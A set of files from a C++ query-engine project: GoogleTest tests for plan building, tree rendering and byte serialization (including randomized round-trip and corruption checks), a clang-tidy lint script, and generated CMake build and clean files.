TEST_F(EngineTest, LargeScanThroughManyBatches) {
  MustSql("CREATE TABLE main.s.big (x BIGINT)");
  for (int chunk = 0; chunk < 5; ++chunk) {
    std::string sql = "INSERT INTO main.s.big VALUES ";
    for (int i = 0; i < 200; ++i) {
      if (i > 0) sql += ", ";
      sql += "(" + std::to_string(chunk * 200 + i) + ")";
    }
    MustSql(sql);
  }
  Table t = MustSql("SELECT SUM(x) AS s, COUNT(*) AS n FROM main.s.big");
  auto batch = *t.Combine();
  EXPECT_EQ(batch.CellAt(0, 1).int_value(), 1000);
  EXPECT_EQ(batch.CellAt(0, 0).int_value(), 999 * 1000 / 2);
}

}  // namespace
}  // namespace lakeguard
