// Tests for src/plan: node structure, tree rendering and plan serde.

#include <gtest/gtest.h>

#include "columnar/table.h"
#include "plan/plan.h"
#include "plan/plan_serde.h"

namespace lakeguard {
namespace {

RecordBatch OneRowBatch() {
  TableBuilder builder(Schema({{"x", TypeKind::kInt64, true}}));
  EXPECT_TRUE(builder.AppendRow({Value::Int(7)}).ok());
  auto combined = builder.Build().Combine();
  EXPECT_TRUE(combined.ok());
  return *combined;
}

PlanPtr ComplexPlan() {
  PlanPtr scan = MakeTableRef("main.fin.sales");
  PlanPtr filtered =
      MakeFilter(scan, Eq(Col("order_date"), LitString("2024-12-01")));
  PlanPtr local = MakeLocalRelation(OneRowBatch());
  PlanPtr joined = MakeJoin(filtered, local, JoinType::kLeft,
                            Eq(Col("amount"), Col("x")));
  PlanPtr agg = MakeAggregate(
      joined, {Col("seller")}, {"seller"},
      {Func("SUM", {Col("amount")}), Func("COUNT", {LitInt(1)})},
      {"total", "n"});
  PlanPtr sorted = MakeSort(agg, {{Col("total"), false}, {Col("n"), true}});
  return MakeLimit(sorted, 10);
}

TEST(PlanTest, DescribeAndTree) {
  PlanPtr plan = ComplexPlan();
  std::string tree = plan->ToTreeString();
  EXPECT_NE(tree.find("Limit 10"), std::string::npos);
  EXPECT_NE(tree.find("Sort [total DESC, n ASC]"), std::string::npos);
  EXPECT_NE(tree.find("Join LEFT"), std::string::npos);
  EXPECT_NE(tree.find("UnresolvedRelation [main.fin.sales]"),
            std::string::npos);
}

TEST(PlanTest, EqualsIsStructural) {
  EXPECT_TRUE(ComplexPlan()->Equals(*ComplexPlan()));
  PlanPtr other = MakeLimit(MakeTableRef("t"), 10);
  EXPECT_FALSE(ComplexPlan()->Equals(*other));
}

TEST(PlanTest, CountAndContains) {
  PlanPtr plan = ComplexPlan();
  EXPECT_EQ(CountPlanNodes(plan, PlanKind::kTableRef), 1u);
  EXPECT_EQ(CountPlanNodes(plan, PlanKind::kJoin), 1u);
  EXPECT_TRUE(PlanContains(plan, [](const PlanNode& n) {
    return n.kind() == PlanKind::kLocalRelation;
  }));
  EXPECT_FALSE(PlanContains(plan, [](const PlanNode& n) {
    return n.kind() == PlanKind::kRemoteScan;
  }));
}

TEST(PlanTest, SecureViewAndScansDescribe) {
  Schema schema({{"a", TypeKind::kInt64, true}});
  PlanPtr scan = MakeResolvedScan("main.t", "mem://x", schema);
  PlanPtr sv = MakeSecureView(scan, "main.t");
  EXPECT_NE(sv->ToTreeString().find("SecureView [main.t]"),
            std::string::npos);
  PlanPtr remote = MakeRemoteScan(MakeTableRef("main.t"), "serverless",
                                  schema);
  std::string tree = remote->ToTreeString();
  EXPECT_NE(tree.find("RemoteFilteredScan"), std::string::npos);
  EXPECT_NE(tree.find("[remote sub-plan]"), std::string::npos);
}

TEST(PlanTest, RemoteScanContainsSearchesSubPlan) {
  Schema schema({{"a", TypeKind::kInt64, true}});
  PlanPtr remote = MakeRemoteScan(MakeTableRef("inner.t"), "e", schema);
  EXPECT_TRUE(PlanContains(remote, [](const PlanNode& n) {
    return n.kind() == PlanKind::kTableRef;
  }));
}

// ---- Serde round-trips -------------------------------------------------------------

class PlanSerdeTest : public ::testing::TestWithParam<int> {
 public:
  static std::vector<PlanPtr> Cases() {
    Schema schema({{"a", TypeKind::kInt64, true},
                   {"s", TypeKind::kString, false}});
    return {
        MakeTableRef("cat.sch.tbl"),
        MakeLocalRelation(OneRowBatch()),
        MakeProject(MakeTableRef("t"), {Col("a"), LitInt(5)}, {"a", "five"}),
        MakeFilter(MakeTableRef("t"), Eq(Col("a"), LitInt(1))),
        MakeAggregate(MakeTableRef("t"), {Col("a")}, {"a"},
                      {Func("SUM", {Col("b")})}, {"s"}),
        MakeJoin(MakeTableRef("l"), MakeTableRef("r"), JoinType::kInner,
                 Eq(Col("x"), Col("y"))),
        MakeJoin(MakeTableRef("l"), MakeTableRef("r"), JoinType::kCross,
                 nullptr),
        MakeSort(MakeTableRef("t"), {{Col("a"), true}, {Col("s"), false}}),
        MakeLimit(MakeTableRef("t"), 99),
        MakeSecureView(MakeTableRef("t"), "cat.sch.tbl"),
        MakeResolvedScan("cat.sch.tbl", "mem://root", schema),
        MakeRemoteScan(MakeFilter(MakeTableRef("t"),
                                  Eq(Col("a"), LitInt(2))),
                       "serverless-efgac", schema),
        ComplexPlan(),
    };
  }
};

TEST_P(PlanSerdeTest, RoundTrips) {
  PlanPtr original = Cases()[static_cast<size_t>(GetParam())];
  auto bytes = PlanToBytes(original);
  auto back = PlanFromBytes(bytes);
  ASSERT_TRUE(back.ok()) << back.status();
  EXPECT_TRUE((*back)->Equals(*original)) << original->ToTreeString();
}

INSTANTIATE_TEST_SUITE_P(AllShapes, PlanSerdeTest, ::testing::Range(0, 13));

TEST(PlanSerdeErrorTest, GarbageRejected) {
  EXPECT_FALSE(PlanFromBytes({0xEE, 0x01, 0x02}).ok());
  EXPECT_FALSE(PlanFromBytes({}).ok());
}

TEST(PlanSerdeErrorTest, TruncationRejected) {
  auto bytes = PlanToBytes(ComplexPlan());
  bytes.resize(bytes.size() / 2);
  EXPECT_FALSE(PlanFromBytes(bytes).ok());
}

// ---- Property-style randomized serde ----------------------------------------------
//
// A seeded generator builds arbitrary plan trees from every node kind; each
// must survive a byte round-trip structurally intact, every strict prefix of
// its encoding must decode to an error (never a silently shorter plan), and
// corrupted encodings must error or decode — never crash.

class PlanRng {
 public:
  explicit PlanRng(uint64_t seed) : state_(seed ? seed : 0x9e3779b9) {}
  uint64_t Next() {
    state_ ^= state_ << 13;
    state_ ^= state_ >> 7;
    state_ ^= state_ << 17;
    return state_;
  }
  size_t Below(size_t n) { return n == 0 ? 0 : Next() % n; }

 private:
  uint64_t state_;
};

ExprPtr RandomPredicate(PlanRng& rng) {
  ExprPtr probe = Col("c" + std::to_string(rng.Below(4)));
  ExprPtr lit = LitInt(static_cast<int64_t>(rng.Below(100)));
  switch (rng.Below(4)) {
    case 0:
      return Eq(probe, lit);
    case 1:
      return And(Eq(probe, lit), Eq(Col("tag"), LitString("x")));
    case 2:
      return Func("ABS", {probe});
    default:
      return Eq(Col("k"), lit);
  }
}

PlanPtr RandomPlan(PlanRng& rng, int depth) {
  if (depth <= 0 || rng.Below(5) == 0) {
    switch (rng.Below(3)) {
      case 0:
        return MakeTableRef("cat.s.t" + std::to_string(rng.Below(4)));
      case 1:
        return MakeLocalRelation(OneRowBatch());
      default: {
        Schema schema({{"a", TypeKind::kInt64, rng.Below(2) == 0},
                       {"s", TypeKind::kString, true}});
        return MakeResolvedScan("cat.s.r" + std::to_string(rng.Below(3)),
                                "mem://loc/" + std::to_string(rng.Below(3)),
                                schema);
      }
    }
  }
  switch (rng.Below(8)) {
    case 0: {
      size_t n = 1 + rng.Below(3);
      std::vector<ExprPtr> exprs;
      std::vector<std::string> names;
      for (size_t i = 0; i < n; ++i) {
        exprs.push_back(RandomPredicate(rng));
        names.push_back("p" + std::to_string(i));
      }
      return MakeProject(RandomPlan(rng, depth - 1), std::move(exprs),
                         std::move(names));
    }
    case 1:
      return MakeFilter(RandomPlan(rng, depth - 1), RandomPredicate(rng));
    case 2:
      return MakeLimit(RandomPlan(rng, depth - 1),
                       static_cast<int64_t>(rng.Below(1000)));
    case 3:
      return MakeSort(RandomPlan(rng, depth - 1),
                      {{Col("a"), rng.Below(2) == 0},
                       {Col("s"), rng.Below(2) == 0}});
    case 4: {
      JoinType type = static_cast<JoinType>(rng.Below(3));
      ExprPtr cond =
          type == JoinType::kCross ? nullptr : Eq(Col("x"), Col("y"));
      return MakeJoin(RandomPlan(rng, depth - 1), RandomPlan(rng, depth - 1),
                      type, std::move(cond));
    }
    case 5:
      return MakeAggregate(RandomPlan(rng, depth - 1), {Col("g")}, {"g"},
                           {Func("SUM", {Col("v")}), Func("COUNT", {LitInt(1)})},
                           {"total", "n"});
    case 6:
      return MakeSecureView(RandomPlan(rng, depth - 1),
                            "cat.s.v" + std::to_string(rng.Below(3)));
    default: {
      Schema schema({{"a", TypeKind::kInt64, true}});
      return MakeRemoteScan(RandomPlan(rng, depth - 1), "serverless-efgac",
                            schema);
    }
  }
}

class PlanPropertyTest : public ::testing::TestWithParam<int> {};

TEST_P(PlanPropertyTest, RandomPlanRoundTripsStructurally) {
  PlanRng rng(0x9100 + GetParam());
  for (int i = 0; i < 40; ++i) {
    PlanPtr original = RandomPlan(rng, 4);
    auto back = PlanFromBytes(PlanToBytes(original));
    ASSERT_TRUE(back.ok()) << back.status() << "\n"
                           << original->ToTreeString();
    EXPECT_TRUE((*back)->Equals(*original)) << original->ToTreeString();
  }
}

TEST_P(PlanPropertyTest, EveryStrictPrefixIsRejected) {
  PlanRng rng(0x9200 + GetParam());
  for (int i = 0; i < 5; ++i) {
    std::vector<uint8_t> full = PlanToBytes(RandomPlan(rng, 3));
    for (size_t len = 0; len < full.size(); ++len) {
      std::vector<uint8_t> prefix(full.begin(),
                                  full.begin() + static_cast<long>(len));
      EXPECT_FALSE(PlanFromBytes(prefix).ok())
          << "prefix of length " << len << "/" << full.size() << " decoded";
    }
  }
}

TEST_P(PlanPropertyTest, CorruptedBytesErrorOrDecodeNeverCrash) {
  PlanRng rng(0x9300 + GetParam());
  for (int i = 0; i < 40; ++i) {
    std::vector<uint8_t> bytes = PlanToBytes(RandomPlan(rng, 3));
    for (int flips = 0; flips < 4; ++flips) {
      bytes[rng.Below(bytes.size())] ^=
          static_cast<uint8_t>(1 + rng.Below(255));
    }
    auto back = PlanFromBytes(bytes);  // Status, never a crash
    if (back.ok()) {
      // Whatever survived must still be a well-formed, printable tree.
      EXPECT_FALSE((*back)->ToTreeString().empty());
    }
  }
}

INSTANTIATE_TEST_SUITE_P(Seeds, PlanPropertyTest, ::testing::Range(0, 4));

}  // namespace
}  // namespace lakeguard
