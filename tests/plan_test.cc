// Tests for src/plan: node structure, tree rendering and plan serde.

#include <gtest/gtest.h>

#include "columnar/table.h"
#include "plan/plan.h"
#include "plan/plan_serde.h"

namespace lakeguard {
namespace {

RecordBatch OneRowBatch() {
  TableBuilder builder(Schema({{"x", TypeKind::kInt64, true}}));
  EXPECT_TRUE(builder.AppendRow({Value::Int(7)}).ok());
  auto combined = builder.Build().Combine();
  EXPECT_TRUE(combined.ok());
  return *combined;
}

PlanPtr ComplexPlan() {
  PlanPtr scan = MakeTableRef("main.fin.sales");
  PlanPtr filtered =
      MakeFilter(scan, Eq(Col("order_date"), LitString("2024-12-01")));
  PlanPtr local = MakeLocalRelation(OneRowBatch());
  PlanPtr joined = MakeJoin(filtered, local, JoinType::kLeft,
                            Eq(Col("amount"), Col("x")));
  PlanPtr agg = MakeAggregate(
      joined, {Col("seller")}, {"seller"},
      {Func("SUM", {Col("amount")}), Func("COUNT", {LitInt(1)})},
      {"total", "n"});
  PlanPtr sorted = MakeSort(agg, {{Col("total"), false}, {Col("n"), true}});
  return MakeLimit(sorted, 10);
}

TEST(PlanTest, DescribeAndTree) {
  PlanPtr plan = ComplexPlan();
  std::string tree = plan->ToTreeString();
  EXPECT_NE(tree.find("Limit 10"), std::string::npos);
  EXPECT_NE(tree.find("Sort [total DESC, n ASC]"), std::string::npos);
  EXPECT_NE(tree.find("Join LEFT"), std::string::npos);
  EXPECT_NE(tree.find("UnresolvedRelation [main.fin.sales]"),
            std::string::npos);
}

TEST(PlanTest, EqualsIsStructural) {
  EXPECT_TRUE(ComplexPlan()->Equals(*ComplexPlan()));
  PlanPtr other = MakeLimit(MakeTableRef("t"), 10);
  EXPECT_FALSE(ComplexPlan()->Equals(*other));
}

TEST(PlanTest, CountAndContains) {
  PlanPtr plan = ComplexPlan();
  EXPECT_EQ(CountPlanNodes(plan, PlanKind::kTableRef), 1u);
  EXPECT_EQ(CountPlanNodes(plan, PlanKind::kJoin), 1u);
  EXPECT_TRUE(PlanContains(plan, [](const PlanNode& n) {
    return n.kind() == PlanKind::kLocalRelation;
  }));
  EXPECT_FALSE(PlanContains(plan, [](const PlanNode& n) {
    return n.kind() == PlanKind::kRemoteScan;
  }));
}

TEST(PlanTest, SecureViewAndScansDescribe) {
  Schema schema({{"a", TypeKind::kInt64, true}});
  PlanPtr scan = MakeResolvedScan("main.t", "mem://x", schema);
  PlanPtr sv = MakeSecureView(scan, "main.t");
  EXPECT_NE(sv->ToTreeString().find("SecureView [main.t]"),
            std::string::npos);
  PlanPtr remote = MakeRemoteScan(MakeTableRef("main.t"), "serverless",
                                  schema);
  std::string tree = remote->ToTreeString();
  EXPECT_NE(tree.find("RemoteFilteredScan"), std::string::npos);
  EXPECT_NE(tree.find("[remote sub-plan]"), std::string::npos);
}

TEST(PlanTest, RemoteScanContainsSearchesSubPlan) {
  Schema schema({{"a", TypeKind::kInt64, true}});
  PlanPtr remote = MakeRemoteScan(MakeTableRef("inner.t"), "e", schema);
  EXPECT_TRUE(PlanContains(remote, [](const PlanNode& n) {
    return n.kind() == PlanKind::kTableRef;
  }));
}

// ---- Serde round-trips -------------------------------------------------------------

class PlanSerdeTest : public ::testing::TestWithParam<int> {
 public:
  static std::vector<PlanPtr> Cases() {
    Schema schema({{"a", TypeKind::kInt64, true},
                   {"s", TypeKind::kString, false}});
    return {
        MakeTableRef("cat.sch.tbl"),
        MakeLocalRelation(OneRowBatch()),
        MakeProject(MakeTableRef("t"), {Col("a"), LitInt(5)}, {"a", "five"}),
        MakeFilter(MakeTableRef("t"), Eq(Col("a"), LitInt(1))),
        MakeAggregate(MakeTableRef("t"), {Col("a")}, {"a"},
                      {Func("SUM", {Col("b")})}, {"s"}),
        MakeJoin(MakeTableRef("l"), MakeTableRef("r"), JoinType::kInner,
                 Eq(Col("x"), Col("y"))),
        MakeJoin(MakeTableRef("l"), MakeTableRef("r"), JoinType::kCross,
                 nullptr),
        MakeSort(MakeTableRef("t"), {{Col("a"), true}, {Col("s"), false}}),
        MakeLimit(MakeTableRef("t"), 99),
        MakeSecureView(MakeTableRef("t"), "cat.sch.tbl"),
        MakeResolvedScan("cat.sch.tbl", "mem://root", schema),
        MakeRemoteScan(MakeFilter(MakeTableRef("t"),
                                  Eq(Col("a"), LitInt(2))),
                       "serverless-efgac", schema),
        ComplexPlan(),
    };
  }
};

TEST_P(PlanSerdeTest, RoundTrips) {
  PlanPtr original = Cases()[static_cast<size_t>(GetParam())];
  auto bytes = PlanToBytes(original);
  auto back = PlanFromBytes(bytes);
  ASSERT_TRUE(back.ok()) << back.status();
  EXPECT_TRUE((*back)->Equals(*original)) << original->ToTreeString();
}

INSTANTIATE_TEST_SUITE_P(AllShapes, PlanSerdeTest, ::testing::Range(0, 13));

TEST(PlanSerdeErrorTest, GarbageRejected) {
  EXPECT_FALSE(PlanFromBytes({0xEE, 0x01, 0x02}).ok());
  EXPECT_FALSE(PlanFromBytes({}).ok());
}

TEST(PlanSerdeErrorTest, TruncationRejected) {
  auto bytes = PlanToBytes(ComplexPlan());
  bytes.resize(bytes.size() / 2);
  EXPECT_FALSE(PlanFromBytes(bytes).ok());
}

}  // namespace
}  // namespace lakeguard
