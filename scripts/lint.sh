#!/usr/bin/env bash
# Runs clang-tidy (checks from .clang-tidy) over every translation unit in
# src/, using the compile_commands.json of an existing build directory.
#
# Usage: scripts/lint.sh [clang-tidy-binary] [build-dir]
# Typically invoked via the CMake target:  cmake --build build --target lint
set -u

TIDY="${1:-clang-tidy}"
BUILD_DIR="${2:-build}"

if ! command -v "${TIDY}" >/dev/null 2>&1; then
  echo "lint: ${TIDY} not found; install clang-tidy to run the lint target"
  exit 0
fi
if [ ! -f "${BUILD_DIR}/compile_commands.json" ]; then
  echo "lint: ${BUILD_DIR}/compile_commands.json missing;" \
       "configure with cmake first (CMAKE_EXPORT_COMPILE_COMMANDS is on)"
  exit 1
fi

# src/ plus the security-sensitive out-of-tree surfaces: the adversarial
# corpus and the catalog benchmark exercise locking and lifetime patterns
# that the concurrency-* and bugprone-* checks exist to gate; the policy-eval
# benchmark drives the compiled-kernel surfaces (src/expr/compiler is covered
# by the src/ find below); the gateway suite and bench drive the replica
# lifecycle / migration locking in src/serverless under threads; the
# recovery suite and bench drive the durable stores (src/storage/durable,
# covered by the src/ find) through raw-fd and filesystem seams; the
# bytecode-verifier suite and bench drive the admission analysis
# (src/udf/verifier, covered by the src/ find) over adversarial programs.
EXTRA_FILES="tests/attack_test.cc tests/catalog_test.cc tests/serverless_test.cc tests/recovery_test.cc tests/bytecode_verifier_test.cc bench/bench_catalog.cc bench/bench_policy_eval.cc bench/bench_gateway.cc bench/bench_recovery.cc bench/bench_verifier.cc"

FAILED=0
while IFS= read -r file; do
  if ! "${TIDY}" -p "${BUILD_DIR}" --quiet "${file}"; then
    FAILED=1
  fi
done < <({ find src -name '*.cc'; for f in ${EXTRA_FILES}; do
             [ -f "${f}" ] && echo "${f}"; done; } | sort)

if [ "${FAILED}" -ne 0 ]; then
  echo "lint: clang-tidy reported findings"
  exit 1
fi
echo "lint: clean"
