# CMake generated Testfile for 
# Source directory: /root/repo/tests
# Build directory: /root/repo/build/tests
# 
# This file includes the relevant testing commands required for 
# testing this directory and lists subdirectories to be tested as well.
include("/root/repo/build/tests/common_test[1]_include.cmake")
include("/root/repo/build/tests/columnar_test[1]_include.cmake")
include("/root/repo/build/tests/storage_test[1]_include.cmake")
include("/root/repo/build/tests/expr_test[1]_include.cmake")
include("/root/repo/build/tests/udf_test[1]_include.cmake")
include("/root/repo/build/tests/sql_test[1]_include.cmake")
include("/root/repo/build/tests/plan_test[1]_include.cmake")
include("/root/repo/build/tests/catalog_test[1]_include.cmake")
include("/root/repo/build/tests/sandbox_test[1]_include.cmake")
include("/root/repo/build/tests/cluster_test[1]_include.cmake")
include("/root/repo/build/tests/engine_test[1]_include.cmake")
include("/root/repo/build/tests/connect_test[1]_include.cmake")
include("/root/repo/build/tests/efgac_test[1]_include.cmake")
include("/root/repo/build/tests/serverless_test[1]_include.cmake")
include("/root/repo/build/tests/baselines_test[1]_include.cmake")
include("/root/repo/build/tests/integration_test[1]_include.cmake")
include("/root/repo/build/tests/features_test[1]_include.cmake")
include("/root/repo/build/tests/robustness_test[1]_include.cmake")
