# Empty compiler generated dependencies file for serverless_test.
# This may be replaced when dependencies are built.
