file(REMOVE_RECURSE
  "CMakeFiles/serverless_test.dir/serverless_test.cc.o"
  "CMakeFiles/serverless_test.dir/serverless_test.cc.o.d"
  "serverless_test"
  "serverless_test.pdb"
  "serverless_test[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/serverless_test.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
