file(REMOVE_RECURSE
  "CMakeFiles/udf_test.dir/udf_test.cc.o"
  "CMakeFiles/udf_test.dir/udf_test.cc.o.d"
  "udf_test"
  "udf_test.pdb"
  "udf_test[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/udf_test.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
