# Empty compiler generated dependencies file for udf_test.
# This may be replaced when dependencies are built.
