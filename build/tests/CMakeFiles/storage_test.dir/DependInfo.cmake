
# Consider dependencies only in project.
set(CMAKE_DEPENDS_IN_PROJECT_ONLY OFF)

# The set of languages for which implicit dependencies are needed:
set(CMAKE_DEPENDS_LANGUAGES
  )

# The set of dependency files which are needed:
set(CMAKE_DEPENDS_DEPENDENCY_FILES
  "/root/repo/tests/storage_test.cc" "tests/CMakeFiles/storage_test.dir/storage_test.cc.o" "gcc" "tests/CMakeFiles/storage_test.dir/storage_test.cc.o.d"
  )

# Targets to which this target links.
set(CMAKE_TARGET_LINKED_INFO_FILES
  "/root/repo/build/src/core/CMakeFiles/lg_core.dir/DependInfo.cmake"
  "/root/repo/build/src/serverless/CMakeFiles/lg_serverless.dir/DependInfo.cmake"
  "/root/repo/build/src/efgac/CMakeFiles/lg_efgac.dir/DependInfo.cmake"
  "/root/repo/build/src/connect/CMakeFiles/lg_connect.dir/DependInfo.cmake"
  "/root/repo/build/src/baselines/CMakeFiles/lg_baselines.dir/DependInfo.cmake"
  "/root/repo/build/src/engine/CMakeFiles/lg_engine.dir/DependInfo.cmake"
  "/root/repo/build/src/sql/CMakeFiles/lg_sql.dir/DependInfo.cmake"
  "/root/repo/build/src/plan/CMakeFiles/lg_plan.dir/DependInfo.cmake"
  "/root/repo/build/src/cluster/CMakeFiles/lg_cluster.dir/DependInfo.cmake"
  "/root/repo/build/src/sandbox/CMakeFiles/lg_sandbox.dir/DependInfo.cmake"
  "/root/repo/build/src/catalog/CMakeFiles/lg_catalog.dir/DependInfo.cmake"
  "/root/repo/build/src/storage/CMakeFiles/lg_storage.dir/DependInfo.cmake"
  "/root/repo/build/src/udf/CMakeFiles/lg_udf.dir/DependInfo.cmake"
  "/root/repo/build/src/expr/CMakeFiles/lg_expr.dir/DependInfo.cmake"
  "/root/repo/build/src/columnar/CMakeFiles/lg_columnar.dir/DependInfo.cmake"
  "/root/repo/build/src/common/CMakeFiles/lg_common.dir/DependInfo.cmake"
  )

# Fortran module output directory.
set(CMAKE_Fortran_TARGET_MODULE_DIR "")
