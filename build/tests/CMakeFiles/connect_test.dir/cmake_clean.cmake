file(REMOVE_RECURSE
  "CMakeFiles/connect_test.dir/connect_test.cc.o"
  "CMakeFiles/connect_test.dir/connect_test.cc.o.d"
  "connect_test"
  "connect_test.pdb"
  "connect_test[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/connect_test.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
