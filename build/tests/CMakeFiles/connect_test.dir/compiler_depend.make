# Empty compiler generated dependencies file for connect_test.
# This may be replaced when dependencies are built.
