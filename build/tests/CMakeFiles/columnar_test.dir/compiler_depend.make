# Empty compiler generated dependencies file for columnar_test.
# This may be replaced when dependencies are built.
