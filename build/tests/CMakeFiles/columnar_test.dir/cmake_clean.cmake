file(REMOVE_RECURSE
  "CMakeFiles/columnar_test.dir/columnar_test.cc.o"
  "CMakeFiles/columnar_test.dir/columnar_test.cc.o.d"
  "columnar_test"
  "columnar_test.pdb"
  "columnar_test[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/columnar_test.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
