file(REMOVE_RECURSE
  "CMakeFiles/efgac_test.dir/efgac_test.cc.o"
  "CMakeFiles/efgac_test.dir/efgac_test.cc.o.d"
  "efgac_test"
  "efgac_test.pdb"
  "efgac_test[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/efgac_test.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
