# Empty compiler generated dependencies file for efgac_test.
# This may be replaced when dependencies are built.
