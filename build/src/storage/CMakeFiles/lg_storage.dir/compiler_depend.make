# Empty compiler generated dependencies file for lg_storage.
# This may be replaced when dependencies are built.
