
# Consider dependencies only in project.
set(CMAKE_DEPENDS_IN_PROJECT_ONLY OFF)

# The set of languages for which implicit dependencies are needed:
set(CMAKE_DEPENDS_LANGUAGES
  )

# The set of dependency files which are needed:
set(CMAKE_DEPENDS_DEPENDENCY_FILES
  "/root/repo/src/storage/credential.cc" "src/storage/CMakeFiles/lg_storage.dir/credential.cc.o" "gcc" "src/storage/CMakeFiles/lg_storage.dir/credential.cc.o.d"
  "/root/repo/src/storage/delta_table.cc" "src/storage/CMakeFiles/lg_storage.dir/delta_table.cc.o" "gcc" "src/storage/CMakeFiles/lg_storage.dir/delta_table.cc.o.d"
  "/root/repo/src/storage/object_store.cc" "src/storage/CMakeFiles/lg_storage.dir/object_store.cc.o" "gcc" "src/storage/CMakeFiles/lg_storage.dir/object_store.cc.o.d"
  )

# Targets to which this target links.
set(CMAKE_TARGET_LINKED_INFO_FILES
  "/root/repo/build/src/columnar/CMakeFiles/lg_columnar.dir/DependInfo.cmake"
  "/root/repo/build/src/common/CMakeFiles/lg_common.dir/DependInfo.cmake"
  )

# Fortran module output directory.
set(CMAKE_Fortran_TARGET_MODULE_DIR "")
