file(REMOVE_RECURSE
  "liblg_storage.a"
)
