file(REMOVE_RECURSE
  "CMakeFiles/lg_storage.dir/credential.cc.o"
  "CMakeFiles/lg_storage.dir/credential.cc.o.d"
  "CMakeFiles/lg_storage.dir/delta_table.cc.o"
  "CMakeFiles/lg_storage.dir/delta_table.cc.o.d"
  "CMakeFiles/lg_storage.dir/object_store.cc.o"
  "CMakeFiles/lg_storage.dir/object_store.cc.o.d"
  "liblg_storage.a"
  "liblg_storage.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/lg_storage.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
