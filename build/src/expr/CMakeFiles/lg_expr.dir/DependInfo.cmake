
# Consider dependencies only in project.
set(CMAKE_DEPENDS_IN_PROJECT_ONLY OFF)

# The set of languages for which implicit dependencies are needed:
set(CMAKE_DEPENDS_LANGUAGES
  )

# The set of dependency files which are needed:
set(CMAKE_DEPENDS_DEPENDENCY_FILES
  "/root/repo/src/expr/evaluator.cc" "src/expr/CMakeFiles/lg_expr.dir/evaluator.cc.o" "gcc" "src/expr/CMakeFiles/lg_expr.dir/evaluator.cc.o.d"
  "/root/repo/src/expr/expr.cc" "src/expr/CMakeFiles/lg_expr.dir/expr.cc.o" "gcc" "src/expr/CMakeFiles/lg_expr.dir/expr.cc.o.d"
  "/root/repo/src/expr/expr_serde.cc" "src/expr/CMakeFiles/lg_expr.dir/expr_serde.cc.o" "gcc" "src/expr/CMakeFiles/lg_expr.dir/expr_serde.cc.o.d"
  "/root/repo/src/expr/functions.cc" "src/expr/CMakeFiles/lg_expr.dir/functions.cc.o" "gcc" "src/expr/CMakeFiles/lg_expr.dir/functions.cc.o.d"
  )

# Targets to which this target links.
set(CMAKE_TARGET_LINKED_INFO_FILES
  "/root/repo/build/src/columnar/CMakeFiles/lg_columnar.dir/DependInfo.cmake"
  "/root/repo/build/src/common/CMakeFiles/lg_common.dir/DependInfo.cmake"
  )

# Fortran module output directory.
set(CMAKE_Fortran_TARGET_MODULE_DIR "")
