# Empty dependencies file for lg_expr.
# This may be replaced when dependencies are built.
