file(REMOVE_RECURSE
  "CMakeFiles/lg_expr.dir/evaluator.cc.o"
  "CMakeFiles/lg_expr.dir/evaluator.cc.o.d"
  "CMakeFiles/lg_expr.dir/expr.cc.o"
  "CMakeFiles/lg_expr.dir/expr.cc.o.d"
  "CMakeFiles/lg_expr.dir/expr_serde.cc.o"
  "CMakeFiles/lg_expr.dir/expr_serde.cc.o.d"
  "CMakeFiles/lg_expr.dir/functions.cc.o"
  "CMakeFiles/lg_expr.dir/functions.cc.o.d"
  "liblg_expr.a"
  "liblg_expr.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/lg_expr.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
