file(REMOVE_RECURSE
  "liblg_expr.a"
)
