# CMake generated Testfile for 
# Source directory: /root/repo/src
# Build directory: /root/repo/build/src
# 
# This file includes the relevant testing commands required for 
# testing this directory and lists subdirectories to be tested as well.
subdirs("common")
subdirs("columnar")
subdirs("storage")
subdirs("expr")
subdirs("udf")
subdirs("sql")
subdirs("plan")
subdirs("catalog")
subdirs("sandbox")
subdirs("cluster")
subdirs("engine")
subdirs("connect")
subdirs("efgac")
subdirs("serverless")
subdirs("baselines")
subdirs("core")
