file(REMOVE_RECURSE
  "liblg_udf.a"
)
