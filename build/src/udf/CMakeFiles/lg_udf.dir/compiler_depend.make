# Empty compiler generated dependencies file for lg_udf.
# This may be replaced when dependencies are built.
