file(REMOVE_RECURSE
  "CMakeFiles/lg_udf.dir/builder.cc.o"
  "CMakeFiles/lg_udf.dir/builder.cc.o.d"
  "CMakeFiles/lg_udf.dir/bytecode.cc.o"
  "CMakeFiles/lg_udf.dir/bytecode.cc.o.d"
  "CMakeFiles/lg_udf.dir/vm.cc.o"
  "CMakeFiles/lg_udf.dir/vm.cc.o.d"
  "liblg_udf.a"
  "liblg_udf.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/lg_udf.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
