# Empty dependencies file for lg_core.
# This may be replaced when dependencies are built.
