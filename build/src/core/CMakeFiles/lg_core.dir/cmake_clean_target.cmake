file(REMOVE_RECURSE
  "liblg_core.a"
)
