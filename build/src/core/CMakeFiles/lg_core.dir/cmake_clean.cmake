file(REMOVE_RECURSE
  "CMakeFiles/lg_core.dir/platform.cc.o"
  "CMakeFiles/lg_core.dir/platform.cc.o.d"
  "liblg_core.a"
  "liblg_core.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/lg_core.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
