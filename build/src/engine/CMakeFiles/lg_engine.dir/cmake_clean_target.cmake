file(REMOVE_RECURSE
  "liblg_engine.a"
)
