# Empty compiler generated dependencies file for lg_engine.
# This may be replaced when dependencies are built.
